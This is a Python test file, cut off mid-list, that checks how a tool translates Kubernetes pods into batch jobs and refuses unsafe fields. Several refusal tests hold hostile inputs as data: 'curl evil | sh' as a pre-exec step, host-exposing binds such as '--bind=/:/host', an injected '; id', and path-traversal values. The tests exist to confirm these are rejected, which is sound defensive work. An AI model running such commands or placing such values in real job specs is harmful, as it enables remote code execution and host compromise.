"""A pod becomes a job: one test for each kind of thing that a pod has."""

from __future__ import annotations

from typing import Any

import pytest

from isthmus.api.dialects.interlink.pod import translate
from isthmus.api.dialects.interlink.policy import Policy
from isthmus.api.dialects.interlink.served import job_name
from isthmus.errors import Unsupported
from isthmus.job_checks import NAME
from isthmus.work.job import Check, Container, File, JobSpec, Launch, Mount, Probe, Resources, Restart, Volume

from .pods import UID, config_map, container, pod, retrieved, secret

MIB, GIB = 1024**2, 1024**3


def spec_of(made: dict[str, Any], *contents: dict[str, Any], **policy: Any) -> JobSpec:
    return translate(retrieved(made, *contents), Policy(**policy)).spec


def first(made: dict[str, Any], *contents: dict[str, Any], **policy: Any) -> Container:
    return spec_of(made, *contents, **policy).containers[0]


def refusal(made: dict[str, Any], *contents: dict[str, Any], **policy: Any) -> str:
    with pytest.raises(Unsupported) as refused:
        translate(retrieved(made, *contents), Policy(**policy))
    return refused.value.detail


def test_a_plain_pod() -> None:
    order = translate(retrieved(pod(container(command=["true"]))), Policy())
    assert (order.key, order.name) == (UID, "t/p")
    assert order.spec == JobSpec((Container("main", "busybox", ("true",), sandbox=False),))


def test_the_recorded_example_of_variables() -> None:
    """Order lost, values expanded once already; command and args are on the node, since they are shown."""
    made = container(
        command=["sh", "-c", "echo $(A) $$(A) $A"],
        args=["$(B)"],
        env=[
            {"name": "C", "value": "$(LATER)"},
            {"name": "LATER", "value": "z"},
            {"name": "A", "value": "1"},
            {"name": "B", "value": "x1y$(A)"},
            {"name": "C_file.txt", "value": "hello\nworld\n"},
            {"name": "password", "value": "p'w\"d"},
            {"name": "EMPTY"},
        ],
    )
    found = first(pod(made))
    assert (found.command, found.args) == (("sh", "-c", "echo $(A) $$(A) $A"), ("$(B)",))
    assert found.expand
    assert found.env == {}
    assert found.secrets == {
        "C": "$(LATER)", "LATER": "z", "A": "1", "B": "x1y$(A)", "C_file.txt": "hello\nworld\n",
        "password": "p'w\"d", "EMPTY": "",
    }  # fmt: skip


def test_init_containers_come_in_their_order() -> None:
    spec = spec_of(pod(container("a"), container("b"), initContainers=[container("i2"), container("i1")]))
    assert [one.name for one in spec.init] == ["i2", "i1"]
    assert [one.name for one in spec.containers] == ["a", "b"]


def volume_of(volume: dict[str, Any], *contents: dict[str, Any], **policy: Any) -> Volume:
    mounting = container(volumeMounts=[{"name": "v", "mountPath": "/v"}])
    return spec_of(pod(mounting, volumes=[{"name": "v", **volume}]), *contents, **policy).volumes[0]


CM = {"configMaps": [{**config_map("cm", k1="v1", k2="v2"), "binaryData": {"b": "AAE="}}]}
SEC = {"secrets": [secret("s", user="alice")]}


@pytest.mark.parametrize(
    ("volume", "contents", "made"),
    [
        (
            {"configMap": {"name": "cm", "defaultMode": 420}},
            CM,
            Volume("v", files=(File("b", "AAE="), File("k1", "djE="), File("k2", "djI="))),
        ),
        (
            {"configMap": {"name": "cm", "defaultMode": 256, "items": [
                {"key": "k1", "path": "sub/one", "mode": 511}, {"key": "k2", "path": "two"}]}},
            CM,
            Volume("v", files=(File("sub/one", "djE=", mode=0o777), File("two", "djI=", mode=0o400))),
        ),
        ({"configMap": {"name": "none", "optional": True}}, {}, Volume("v", files=())),
        (
            {"configMap": {"name": "cm", "optional": True, "items": [{"key": "gone", "path": "x"}]}},
            CM,
            Volume("v", files=()),
        ),
        ({"secret": {"secretName": "s"}}, SEC, Volume("v", files=(File("user", "YWxpY2U="),))),
        (
            {"projected": {"defaultMode": 420, "sources": [
                {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                {"configMap": {"name": "kube-root-ca.crt", "items": [
                    {"key": "ca.crt", "path": "sub/ca.crt", "mode": 292}]}},
                {"downwardAPI": {"items": [{"path": "ns", "fieldRef": {"fieldPath": "metadata.namespace"}}]}},
            ]}},
            {"projectedvolumemaps": [{"metadata": {"name": "v"}, "data": {
                "token": "t", "sub/ca.crt": "c\n", "ns": "t"}}]},
            Volume("v", files=(File("ns", "dA=="), File("sub/ca.crt", "Ywo=", mode=0o444), File("token", "dA=="))),
        ),
        (
            {"downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}}]}},
            {"projectedvolumemaps": [{"metadata": {"name": "v"}, "data": {"labels": 'app="v"\n'}}]},
            Volume("v", files=(File("labels", "YXBwPSJ2Igo="),)),
        ),
        ({"projected": {"sources": [{"configMap": {"name": "none", "optional": True}},
                                    {"secret": {"name": "none", "optional": True}}]}}, {}, Volume("v", files=())),
        (
            {"projected": {"sources": [{"secret": {"name": "s", "items": [
                {"key": "k", "path": "id", "mode": 256}]}}]}},
            {"projectedvolumemaps": [{"metadata": {"name": "v"}, "data": {"id": "t"}}]},
            Volume("v", files=(File("id", "dA==", mode=0o400),)),
        ),
        ({"emptyDir": {}}, {}, Volume("v")),
        ({"emptyDir": {"medium": "Memory", "sizeLimit": "1Gi"}}, {}, Volume("v", in_memory=True)),
        ({}, {}, Volume("v")),
    ],
)  # fmt: skip
def test_volumes(volume: dict[str, Any], contents: dict[str, Any], made: Volume) -> None:
    assert volume_of(volume, contents) == made


def test_files_that_are_for_a_group_are_read_by_all_of_the_pod() -> None:
    made = pod(
        container(volumeMounts=[{"name": "v", "mountPath": "/v"}]),
        securityContext={"fsGroup": 2000, "runAsUser": 1000},
        volumes=[{"name": "v", "secret": {"secretName": "s", "defaultMode": 0o400}}],
    )
    assert spec_of(made, SEC).volumes == (Volume("v", files=(File("user", "YWxpY2U=", mode=0o444),)),)


def test_a_folder_of_the_node_where_the_operator_allows_it() -> None:
    wanted = {"hostPath": {"path": "/cvmfs/sw", "type": "Directory"}}
    assert volume_of(wanted, host_paths=("/cvmfs/",)) == Volume("v", host_path="/cvmfs/sw", host_path_type="Directory")


@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("/", ()), ("/", ("/cvmfs",)), ("/cvmfs", ()), ("/cvmfs2", ("/cvmfs",)), ("/cvmfs/../etc", ("/cvmfs",)),
        ("cvmfs", ("/cvmfs",)), ("//etc", ("/cvmfs",)), ("/cvmfs/./x", ("/cvmfs",)), ("/cvmfs/\n", ("/cvmfs",)),
        ("", ("/",)),
    ],
)  # fmt: skip
def test_no_other_folder_of_the_node(path: str, allowed: tuple[str, ...]) -> None:
    made = pod(container(), volumes=[{"name": "v", "hostPath": {"path": path}}])
    assert "spec.volumes[0].hostPath.path" in refusal(made, host_paths=allowed)


def test_a_volume_that_nobody_mounts_needs_no_content() -> None:
    assert spec_of(pod(container(), volumes=[{"name": "v", "configMap": {"name": "cm"}}])).volumes == ()


@pytest.mark.parametrize(
    ("volume", "contents", "named"),
    [
        ({"persistentVolumeClaim": {"claimName": "c"}}, {}, "spec.volumes[0].persistentVolumeClaim: claims"),
        ({"nfs": {"server": "s", "path": "/"}}, {}, "spec.volumes[0].nfs"),
        ({"csi": {}}, {}, "spec.volumes[0].csi"),
        ({"configMap": {"name": "cm"}}, {}, "spec.volumes[0].configMap: cm was not sent"),
        ({"configMap": {"name": "cm", "items": [{"key": "no", "path": "x"}]}}, CM, "configMap.items[0].key"),
        ({"configMap": {"name": "cm", "items": [{"key": "k1", "path": "../x"}]}}, CM, "configMap[../x]"),
        ({"configMap": {"name": "cm", "items": [{"key": "k1", "path": "/x"}]}}, CM, "configMap[/x]"),
        ({"configMap": {"name": "cm", "items": [{"key": "k1", "path": "a"}, {"key": "k2", "path": "a/b"}]}}, CM,
         "a is a file and a folder"),
        ({"secret": {"secretName": "s"}}, {"secrets": [{"metadata": {"name": "s"}, "data": {"k": "%%"}}]}, "base64"),
        ({"projected": {"sources": [{"secret": {"name": "s"}}]}}, {}, "sources[0].secret"),
        ({"projected": {"sources": [{"serviceAccountToken": {"path": "t", "audience": "vault"}}]}}, {}, "audience"),
        ({"projected": {"sources": [{"clusterTrustBundle": {"path": "t"}}]}}, {}, "sources[0].clusterTrustBundle"),
        ({"projected": {"sources": [{"downwardAPI": {"items": [
            {"path": "c", "resourceFieldRef": {"resource": "limits.cpu"}}]}}]}}, {}, "items[0].resourceFieldRef"),
        ({"emptyDir": {"medium": "HugePages"}}, {}, "emptyDir.medium"),
        ({"emptyDir": {}, "hostPath": {"path": "/x"}}, {}, "several sources"),
        ({"hostPath": {"path": "/x", "type": "Bogus"}}, {}, "hostPath.type"),
    ],
)  # fmt: skip
def test_volumes_that_are_refused_by_name(volume: dict[str, Any], contents: dict[str, Any], named: str) -> None:
    mounting = container(volumeMounts=[{"name": "v", "mountPath": "/v"}])
    assert named in refusal(pod(mounting, volumes=[{"name": "v", **volume}]), contents)


def test_mounts() -> None:
    made = container(
        env=[{"name": "POD", "value": "p-1"}],
        volumeMounts=[
            {"name": "v", "mountPath": "/a", "readOnly": True, "mountPropagation": "None"},
            {"name": "v", "mountPath": "/b/c", "subPath": "x/y"},
            {"name": "v", "mountPath": "/d", "subPathExpr": "logs/$(POD)", "recursiveReadOnly": "Disabled"},
        ],
    )
    assert first(pod(made, volumes=[{"name": "v", "emptyDir": {}}])).mounts == (
        Mount("v", "/a", read_only=True),
        Mount("v", "/d", "logs/p-1"),
        Mount("v", "/b/c", "x/y"),
    )


def test_a_mount_in_another_comes_after_it() -> None:
    made = container(volumeMounts=[{"name": "v", "mountPath": path} for path in ("/a/b/c", "/z", "/a/b/", "/a")])
    mounts = first(pod(made, volumes=[{"name": "v", "emptyDir": {}}])).mounts
    assert [mount.path for mount in mounts] == ["/z", "/a", "/a/b/", "/a/b/c"]


@pytest.mark.parametrize(
    ("volume", "only_read"),
    [
        ({"configMap": {"name": "cm"}}, True),
        ({"secret": {"secretName": "s", "optional": True}}, True),
        ({"projected": {"sources": []}}, True),
        ({"downwardAPI": {"items": []}}, True),
        ({"emptyDir": {}}, False),
        ({"hostPath": {"path": "/scratch"}}, False),
    ],
)
def test_files_that_came_with_a_pod_are_only_read(volume: dict[str, Any], only_read: bool) -> None:
    mounting = container(volumeMounts=[{"name": "v", "mountPath": "/v"}])
    found = first(pod(mounting, volumes=[{"name": "v", **volume}]), CM, host_paths=("/scratch",))
    assert found.mounts == (Mount("v", "/v", read_only=only_read),)


@pytest.mark.parametrize(
    ("mount", "named"),
    [
        ({"name": "w", "mountPath": "/a"}, "volumeMounts[0].name"),
        ({"name": "v", "mountPath": "a"}, "volumeMounts[0].mountPath"),
        ({"name": "v", "mountPath": "/"}, "volumeMounts[0].mountPath"),
        ({"name": "v", "mountPath": "/a/../../etc"}, "volumeMounts[0].mountPath"),
        ({"name": "v", "mountPath": "/a:/etc:rw"}, "volumeMounts[0].mountPath"),
        ({"name": "v", "mountPath": "/a\n/b"}, "volumeMounts[0].mountPath"),
        ({"name": "v", "mountPath": "/a", "subPath": "../x"}, "volumeMounts[0].subPath"),
        ({"name": "v", "mountPath": "/a", "subPath": "/x"}, "volumeMounts[0].subPath"),
        ({"name": "v", "mountPath": "/a", "subPathExpr": "$(UP)/x"}, "volumeMounts[0].subPathExpr"),
        ({"name": "v", "mountPath": "/a", "subPath": "a", "subPathExpr": "b"}, "volumeMounts[0].subPathExpr"),
        ({"name": "v", "mountPath": "/a", "mountPropagation": "Bidirectional"}, "volumeMounts[0].mountPropagation"),
        ({"name": "v", "mountPath": "/a", "recursiveReadOnly": "Enabled"}, "volumeMounts[0].recursiveReadOnly"),
    ],
)
def test_mounts_that_are_refused_by_name(mount: dict[str, Any], named: str) -> None:
    made = container(env=[{"name": "UP", "value": ".."}], volumeMounts=[mount])
    assert f"spec.containers[0].{named}" in refusal(pod(made, volumes=[{"name": "v", "emptyDir": {}}]))


def test_probes_with_all_their_fields() -> None:
    made = container(
        ports=[{"name": "web", "containerPort": 8080}],
        startupProbe={"exec": {"command": ["cat", "$(X)"]}, "failureThreshold": 30, "periodSeconds": 1,
                      "timeoutSeconds": 1, "successThreshold": 1},
        livenessProbe={"httpGet": {"path": "/ok?a=b c", "port": "web", "scheme": "HTTPS", "httpHeaders": [
            {"name": "X-A", "value": "1"}]}, "initialDelaySeconds": 3},
        readinessProbe={"tcpSocket": {"port": 5432}, "successThreshold": 2, "timeoutSeconds": 4},
    )  # fmt: skip
    found = first(pod(made))
    assert found.startup == Probe(Check(command=("cat", "$(X)")), period=1, failures=30)
    url = "https://127.0.0.1:8080/ok?a=b%20c"
    assert found.liveness == Probe(Check(http=url, headers=(("X-A", "1"),)), initial_delay=3)
    assert found.readiness == Probe(Check(tcp_port=5432, tcp_host="127.0.0.1"), successes=2, timeout=4)


def test_hooks() -> None:
    made = container(
        lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "date"]}}, "preStop": {"sleep": {"seconds": 5}}}
    )
    found = first(pod(made))
    assert (found.post_start, found.pre_stop) == (Check(command=("sh", "-c", "date")), Check(sleep=5))


@pytest.mark.parametrize(
    ("fields", "named"),
    [
        ({"livenessProbe": {"grpc": {"port": 1}}}, "livenessProbe.grpc"),
        ({"livenessProbe": {"httpGet": {"port": "nope"}}}, "livenessProbe.httpGet.port"),
        ({"livenessProbe": {"httpGet": {"port": 99999}}}, "livenessProbe.httpGet.port"),
        ({"livenessProbe": {"httpGet": {"port": 1, "host": "a b"}}}, "livenessProbe.httpGet.host"),
        ({"livenessProbe": {"httpGet": {"port": 1, "httpHeaders": [{"name": "A\r\nB", "value": ""}]}}},
         "livenessProbe.httpGet.httpHeaders[0]"),
        ({"livenessProbe": {}}, "livenessProbe: one of"),
        ({"livenessProbe": {"exec": {"command": ["a"]}, "terminationGracePeriodSeconds": 5}},
         "livenessProbe.terminationGracePeriodSeconds"),
        ({"lifecycle": {"stopSignal": "SIGUSR1"}}, "lifecycle.stopSignal"),
        ({"lifecycle": {"postStart": {"tcpSocket": {"port": 1}}}}, "lifecycle.postStart.tcpSocket"),
        ({"volumeDevices": [{"name": "d", "devicePath": "/dev/x"}]}, "volumeDevices"),
        ({"stdin": True}, "stdin: true"),
        ({"tty": True}, "tty: true"),
        ({"envFrom": [{"configMapRef": {"name": "x"}}]}, "envFrom"),
        ({"env": [{"name": "A", "valueFrom": {"fieldRef": {}, "x": 1}}]}, "env[0].valueFrom"),
        ({"env": [{"name": "A=B"}]}, "env[0].name"),
        ({"env": [{"name": "A\nB"}]}, "env[0].name"),
        ({"env": [{"name": ""}]}, "env[0].name"),
        ({"env": [{"name": "A", "value": "\0"}]}, "env[0].value"),
        ({"args": ["a", "\0"]}, "args[1]"),
        ({"workingDir": "rel"}, "workingDir"),
        ({"image": ""}, "image"),
        ({"image": "--bind=/:/host"}, "image"),
        ({"image": "a b"}, "image"),
        ({"image": "/cvmfs/../../etc"}, "image"),
        ({"image": "/"}, "image: / of the node may not be an image here"),
        ({"image": "/home/isthmus/.isthmus"}, "image"),
        ({"image": "oci:/etc:latest"}, "image"),
        ({"image": "oci-archive:/srv/x.tar"}, "image"),
        ({"image": "docker-archive:x.tar"}, "image: the path must be absolute"),
        ({"image": "instance://others"}, "image: no image is taken from instance://"),
        ({"image": "sandbox:///etc"}, "image"),
        ({"resources": {"limits": {"rdma/hca": "1"}}}, "resources.limits.rdma/hca"),
        ({"resources": {"limits": {"cpu": "many"}}}, "resources.limits.cpu"),
        ({"resources": {"requests": {"hugepages-2Mi": "1Gi"}}}, "resources.requests.hugepages-2Mi"),
        ({"resources": {"claims": [{"name": "gpu"}]}}, "resources.claims"),
        ({"restartPolicy": "Always"}, "restartPolicy"),
        ({"securityContext": {"privileged": True}}, "securityContext.privileged: true"),
        ({"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}, "securityContext.capabilities.add"),
        ({"securityContext": {"capabilities": {"drop": ["ALL"]}}}, "securityContext.capabilities.drop"),
        ({"securityContext": {"runAsNonRoot": True}}, "securityContext.runAsNonRoot"),
        ({"securityContext": {"runAsNonRoot": True, "runAsUser": 0}}, "securityContext.runAsUser"),
        ({"securityContext": {"readOnlyRootFilesystem": True}}, "securityContext.readOnlyRootFilesystem"),
        ({"securityContext": {"allowPrivilegeEscalation": False}}, "securityContext.allowPrivilegeEscalation"),
        ({"securityContext": {"seccompProfile": {"type": "Localhost"}}}, "securityContext.seccompProfile"),
        ({"securityContext": {"procMount": "Unmasked"}}, "securityContext.procMount: Unmasked"),
        ({"name": "Not_A_Label"}, "name"),
        ({"command": "true"}, "command"),
        ({"somethingNew": {"a": 1}}, "somethingNew"),
    ],
)  # fmt: skip
def test_fields_of_containers_that_are_refused_by_name(fields: dict[str, Any], named: str) -> None:
    found = refusal(pod(container(**fields)))
    assert "spec.containers[0]." in found
    assert named in found


@pytest.mark.parametrize(
    ("fields", "named"),
    [
        ({"hostPID": True}, "spec.hostPID: true"),
        ({"hostIPC": True}, "spec.hostIPC: true"),
        ({"hostUsers": False}, "spec.hostUsers: false"),
        ({"shareProcessNamespace": True}, "spec.shareProcessNamespace: true"),
        ({"hostAliases": [{"ip": "1.2.3.4"}]}, "spec.hostAliases"),
        ({"dnsConfig": {"nameservers": ["1.1.1.1"]}}, "spec.dnsConfig"),
        ({"runtimeClassName": "gvisor"}, "spec.runtimeClassName: gvisor"),
        ({"setHostnameAsFQDN": True}, "spec.setHostnameAsFQDN"),
        ({"ephemeralContainers": [{"name": "e"}]}, "spec.ephemeralContainers"),
        ({"resourceClaims": [{"name": "r"}]}, "spec.resourceClaims"),
        ({"os": {"name": "windows"}}, "spec.os"),
        ({"restartPolicy": "Sometimes"}, "spec.restartPolicy"),
        ({"activeDeadlineSeconds": -1}, "spec.activeDeadlineSeconds"),
        ({"activeDeadlineSeconds": 0}, "spec.activeDeadlineSeconds"),
        ({"securityContext": {"sysctls": [{"name": "a", "value": "b"}]}}, "spec.securityContext.sysctls"),
        ({"securityContext": {"supplementalGroups": [5]}}, "spec.securityContext.supplementalGroups"),
        ({"initContainers": [container("i", restartPolicy="Always")]}, "spec.initContainers[0].restartPolicy: Always"),
        ({"initContainers": [container("main")]}, "two containers have the same name"),
        ({"initContainers": [container("i", livenessProbe={"exec": {"command": ["a"]}})]},
         "spec.initContainers[0].livenessProbe"),
        ({"containers": []}, "spec.containers"),
    ],
)  # fmt: skip
def test_fields_of_pods_that_are_refused_by_name(fields: dict[str, Any], named: str) -> None:
    assert named in refusal(pod(container(), **fields))


def test_all_that_is_refused_is_told_at_once() -> None:
    found = refusal(pod(container(stdin=True, securityContext={"privileged": True}), hostPID=True))
    assert all(name in found for name in ("hostPID", "stdin", "privileged"))


def test_what_the_operator_tolerates_passes_and_is_told() -> None:
    made = pod(container(securityContext={"privileged": True}, stdin=True))
    tolerated = ("securityContext.privileged", "spec.containers[0].stdin")
    order = translate(retrieved(made), Policy(tolerated=tolerated))
    assert order.passed == ("spec.containers[0].stdin", "spec.containers[0].securityContext.privileged")


def test_nobody_tolerates_what_is_unsafe() -> None:
    made = pod(container(), volumes=[{"name": "v", "hostPath": {"path": "/"}}])
    assert "hostPath" in refusal(made, tolerated=("hostPath.path", "path"))


def test_harmless_fields_pass() -> None:
    made = pod(
        container(ports=[{"containerPort": 80, "hostPort": 80}], stdin=False, volumeDevices=None),
        affinity={"nodeAffinity": {}}, hostNetwork=True, imagePullSecrets=[{"name": "x"}], hostPID=False,
        os={"name": "linux"}, runtimeClassName="nvidia", hostname="p-0", subdomain="s", readinessGates=[{"a": "b"}],
        securityContext={"fsGroup": 100, "seccompProfile": {"type": "RuntimeDefault"}},
    )  # fmt: skip
    spec_of(made)


def test_a_site_that_confines_containers_can_promise_it() -> None:
    context = {
        "runAsNonRoot": True, "allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
        "capabilities": {"drop": ["ALL"]},
    }  # fmt: skip
    spec_of(pod(container(securityContext=context)), confined=True)


def test_users_of_the_container_go_over_those_of_the_pod() -> None:
    both = pod(
        container(securityContext={"runAsUser": 0}), container("b"),
        securityContext={"runAsUser": 1000, "runAsGroup": 100, "runAsNonRoot": False},
    )  # fmt: skip
    assert [(one.user, one.group) for one in spec_of(both).containers] == [(0, 100), (1000, 100)]


def limits(**named: str) -> dict[str, Any]:
    return {"limits": {name.replace("__", "/").replace("_", "."): text for name, text in named.items()}}


@pytest.mark.parametrize(
    ("containers", "init", "needed"),
    [
        ([{}], [], Resources(cpus=1)),
        ([limits(cpu="1", memory="128Mi")], [], Resources(cpus=1, memory=128 * MIB)),
        ([{"requests": {"cpu": "250m", "memory": "64Mi"}}], [], Resources(cpus=0.25, memory=64 * MIB)),
        ([{"requests": {"cpu": "250m"}, **limits(cpu="2")}], [], Resources(cpus=2)),
        (
            [limits(cpu="1", memory="1Gi"), limits(cpu="500m", memory="1Gi")],
            [],
            Resources(cpus=1.5, memory=2 * GIB),
        ),
        ([limits(memory="1Gi"), {}], [], Resources(cpus=1, memory=GIB + 256 * MIB)),
        (
            [limits(cpu="1", memory="1Gi")],
            [limits(cpu="4", memory="8Gi")],
            Resources(cpus=4, memory=8 * GIB),
        ),
        ([limits(nvidia_com__gpu="1")], [], Resources(gpus=1)),
        ([limits(nvidia_com__gpu="1"), limits(nvidia_com__gpu="2")], [limits(nvidia_com__gpu="2")], Resources(gpus=3)),
        ([limits(amd_com__gpu="2")], [], Resources(gpus=2)),
        ([{"limits": {"nvidia.com/mig-1g.5gb": "1"}}], [], Resources(gpus=1, gpu_type="1g.5gb")),
        ([{"limits": {"nvidia.com/gpu": 0, "ephemeral-storage": "1Gi"}}], [], Resources()),
    ],
)  # fmt: skip
def test_resources(containers: list[dict[str, Any]], init: list[dict[str, Any]], needed: Resources) -> None:
    made = pod(
        *(container(f"c{n}", resources=one) for n, one in enumerate(containers)),
        initContainers=[container(f"i{n}", resources=one) for n, one in enumerate(init)],
    )
    assert spec_of(made).resources == needed


def test_limits_bind_containers_and_requests_do_not() -> None:
    bound, free = spec_of(pod(
        container("a", resources=limits(cpu="500m", memory="100Mi")),
        container("b", resources={"requests": {"cpu": "1", "memory": "1Gi"}}),
    )).containers  # fmt: skip
    assert (bound.cpus, bound.memory, free.cpus, free.memory) == (0.5, 100 * MIB, None, None)


def test_an_accelerator_that_the_operator_names() -> None:
    made = pod(container(resources={"limits": {"site.org/h100": "2"}}))
    found = spec_of(made, accelerators={"site.org/h100": "h100"}).resources
    assert (found.gpus, found.gpu_type) == (2, "h100")


def test_two_kinds_of_gpu_are_refused() -> None:
    both = {"limits": {"nvidia.com/gpu": "1", "amd.com/gpu": "1"}}
    assert "one kind of GPU" in refusal(pod(container(resources=both)))


def test_a_pods_own_resources_hold() -> None:
    made = pod(container(), resources={"limits": {"cpu": "3", "memory": "2Gi"}})
    assert spec_of(made).resources == Resources(cpus=3, memory=2 * GIB)


def test_policies_and_times() -> None:
    spec = spec_of(
        pod(container(), restartPolicy="OnFailure", terminationGracePeriodSeconds=7, activeDeadlineSeconds=90)
    )
    assert (spec.restart, spec.grace, spec.resources.time) == (Restart.ON_FAILURE, 7, 90)
    always, on_failure = pod(container(), restartPolicy="Always"), pod(container(), restartPolicy="OnFailure")
    assert spec_of(always).restart is Restart.NEVER
    assert spec_of(always, restarts=Restart.ALWAYS).restart is Restart.ALWAYS
    assert spec_of(on_failure, restarts=Restart.NEVER).restart is Restart.NEVER


def test_a_script_in_place_of_the_pod_is_refused() -> None:
    with pytest.raises(Unsupported, match="jobScript"):
        translate({**retrieved(pod()), "jobScript": "#!/bin/sh\nid"}, Policy())


def annotated(**annotations: str) -> dict[str, Any]:
    named = {f"slurm-job.vk.io/{name.replace('_', '-')}": text for name, text in annotations.items()}
    return pod(container(), annotations=named)


def test_flags_over_a_flavor_over_the_operators_options() -> None:
    spec = spec_of(
        annotated(flags="--partition=long -N2", flavor="gpu"),
        flavors={"gpu": "--partition=gpu --qos=high"}, options={"partition": "main", "account": "a"},
    )  # fmt: skip
    assert spec.options == {"partition": "long", "qos": "high", "account": "a"}
    assert spec.resources.nodes == 2


@pytest.mark.parametrize("prefix", ["slurm-job.vk.io", "slurm-job.knoc.io", "job.vk.io"])
def test_annotations_mean_the_same_under_each_name_of_the_plugin(prefix: str) -> None:
    steered = {
        f"{prefix}/flags": "--job-name=test-pod-cfg -t 2800  --ntasks=8 --nodes=1 --mem-per-cpu=2000",
        f"{prefix}/flavor": "gpu", f"{prefix}/image-root": "docker://mirror.example/",
        f"{prefix}/pre-exec": "module load x", f"{prefix}/singularity-options": "--cleanenv",
        f"{prefix}/singularity-mounts": "--bind /cvmfs:/cvmfs:ro",
    }  # fmt: skip
    policy = {"flavors": {"gpu": "--partition=gpu"}, "pre_exec": True, "host_paths": ("/cvmfs",)}
    spec = spec_of(pod(container(), annotations=steered), **policy)
    assert spec.resources == Resources(tasks=8, memory=2000 * MIB, time=168_000)
    assert spec.options == {"partition": "gpu"}
    assert [one.command[-1] for one in spec.init] == ["module load x"]
    assert (spec.containers[0].image, spec.containers[0].runtime_options) == (
        "docker://mirror.example/busybox", ("--cleanenv",),
    )  # fmt: skip
    assert [one.host_path for one in spec.volumes] == ["/cvmfs"]


def test_what_is_said_under_two_names_adds_up_where_it_can() -> None:
    spec = spec_of(pod(container(), annotations={
        "job.vk.io/flags": "-p long -q low", "slurm-job.vk.io/flags": "-p long", "slurm-job.knoc.io/flags": "-p mid",
        "job.vk.io/singularity-mounts": "/cvmfs:/sw:ro", "slurm-job.vk.io/singularity-mounts": "-B /cvmfs:/sw:ro,/data",
        "job.vk.io/singularity-options": "--cleanenv", "slurm-job.vk.io/singularity-options": "--no-home",
        "htcondor-job.vk.io/singularity-options": "--cleanenv",
        "htcondor-job.knoc.io/image-root": "docker://m.example/", "slurm-job.vk.io/image-root": "docker://m.example/",
    }), host_paths=("/cvmfs", "/data"))  # fmt: skip
    assert [(one.path, one.read_only) for one in spec.containers[0].mounts] == [("/sw", True), ("/data", False)]
    assert spec.options == {"partition": "long", "qos": "low"}
    assert spec.containers[0].runtime_options == ("--cleanenv", "--no-home")
    assert spec.containers[0].image == "docker://m.example/busybox"


@pytest.mark.parametrize("name", ["pre-exec", "image-root", "flavor", "mpi-flags"])
def test_what_is_said_under_two_names_is_refused_where_one_alone_can_hold(name: str) -> None:
    said = {f"job.vk.io/{name}": "-np 2", f"slurm-job.vk.io/{name}": "-np 3"}
    found = refusal(pod(container(), annotations=said), pre_exec=True, flavors={"-np 2": ""})
    assert f"metadata.annotations[slurm-job.vk.io/{name}]: job.vk.io/{name} says something else" in found


@pytest.mark.parametrize(
    ("earlier", "later"), [("/cvmfs/a:/m", "/cvmfs/b:/m"), ("/cvmfs/a:/m:ro", "/cvmfs/a:/m/"), ("/a", "/cvmfs:/a")]
)
def test_of_two_binds_to_one_place_neither_is_dropped_unsaid(earlier: str, later: str) -> None:
    names = "job.vk.io/singularity-mounts", "slurm-job.vk.io/singularity-mounts"
    for said in ({names[1]: f"{earlier},{later}"}, dict(zip(names, (earlier, later), strict=True))):
        found = refusal(pod(container(), annotations=said), host_paths=("/cvmfs", "/a"))
        assert f"metadata.annotations[{names[1]}]: something else is mounted at /" in found


def test_flags_are_refused_under_the_name_that_they_have() -> None:
    for key in ("job.vk.io/flags", "slurm-job.knoc.io/flags"):
        assert f"metadata.annotations[{key}]: --mem=0" in refusal(pod(container(), annotations={key: "--mem=0"}))


def test_mpi_flags_start_each_task() -> None:
    spec = spec_of(annotated(mpi_flags="-np 8", flags="-N 2"))
    assert (spec.launch, spec.resources.tasks, spec.resources.nodes) == (Launch.EACH, 8, 2)


def test_binds_of_the_node_are_seen_by_all_containers() -> None:
    made = annotated(singularity_mounts="--bind /cvmfs:/cvmfs:ro,/scratch")
    made["spec"]["initContainers"] = [container("i")]
    spec = spec_of(made, host_paths=("/cvmfs", "/scratch"))
    assert [v.host_path for v in spec.volumes] == ["/cvmfs", "/scratch"]
    for one in (*spec.init, *spec.containers):
        assert [(m.path, m.read_only) for m in one.mounts] == [("/cvmfs", True), ("/scratch", False)]


def test_options_of_the_runtime_and_root_of_images() -> None:
    found = first(annotated(singularity_options="--nv --cleanenv", image_root="docker://mirror.example/"))
    assert found.runtime_options == ("--nv", "--cleanenv")
    assert found.image == "docker://mirror.example/busybox"


def test_options_that_every_container_is_run_with_are_not_asked_of_the_site() -> None:
    gpu = container(resources={"limits": {"nvidia.com/gpu": "1"}})
    for made, left in ((container(), ("--nv", "--compat")), (gpu, ("--compat",))):
        steered = {"slurm-job.vk.io/singularity-options": "--nv --contain --no-eval --writable-tmpfs --compat"}
        assert first(pod(made, annotations=steered)).runtime_options == left


@pytest.mark.parametrize(
    "image",
    ["/cvmfs/unpacked/busybox:1", "/srv/images/a.sif", "oci-archive:/srv/images/a.tar:1", "docker://a/b:1", "oras://a/b",
     "registry.example:5000/a/b@sha256:00"],
)  # fmt: skip
def test_images_of_registries_and_of_folders_that_the_operator_names(image: str) -> None:
    assert first(pod(container(image=image)), image_paths=("/cvmfs", "/srv/images")).image == image


def test_a_root_of_images_does_not_lead_out_of_their_folder() -> None:
    for root, image in (("/cvmfs/.", "./etc"), ("/etc/", "x"), ("instance://", "x")):
        made = pod(container(image=image), annotations={"slurm-job.vk.io/image-root": root})
        assert "spec.containers[0].image" in refusal(made)


def test_a_shell_text_where_the_operator_allows_it() -> None:
    spec = spec_of(annotated(pre_exec="module load x"), pre_exec=True)
    assert spec.init[0] == Container("pre-exec", command=("/bin/sh", "-c", "module load x"), sandbox=False)


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("slurm-job.vk.io/flags", "--array=1-3"),
        ("slurm-job.vk.io/flavor", "unknown"),
        ("slurm-job.vk.io/mpi-flags", "--mca btl tcp"),
        ("slurm-job.vk.io/pre-exec", "curl evil | sh"),
        ("slurm-job.vk.io/singularity-mounts", "--bind /etc:/etc"),
        ("slurm-job.vk.io/singularity-mounts", "--overlay /x"),
        ("slurm-job.vk.io/singularity-options", "--bind=/:/host"),
        ("slurm-job.vk.io/singularity-options", "--nv; id"),
        ("slurm-job.vk.io/image-root", "../../"),
        ("slurm-job.vk.io/enroot-options", "--rw"),
